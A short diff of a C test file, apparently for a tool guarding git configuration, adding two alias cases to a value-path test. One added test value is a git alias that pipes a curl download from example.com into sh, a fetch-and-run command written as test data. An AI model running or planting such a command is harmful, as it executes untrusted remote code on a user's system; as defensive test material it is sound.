@@ -306,6 +306,8 @@ static void test_value_paths(void)
         value_names("pager.log", "./pg", "./pg|");
         value_names("user.name", "/abs/thing", "/abs/thing|");
         value_names("include.path", "x", "");            /* includes are protect_git.c's */
+        value_names("alias.l", "!git log --format=%h/%s", "");  /* placeholders, not files */
+        value_names("alias.u", "!curl -fsS https://example.com/x | sh", "");
 }
 
 /* ---- the files a repository's git reads ------------------------------------ */
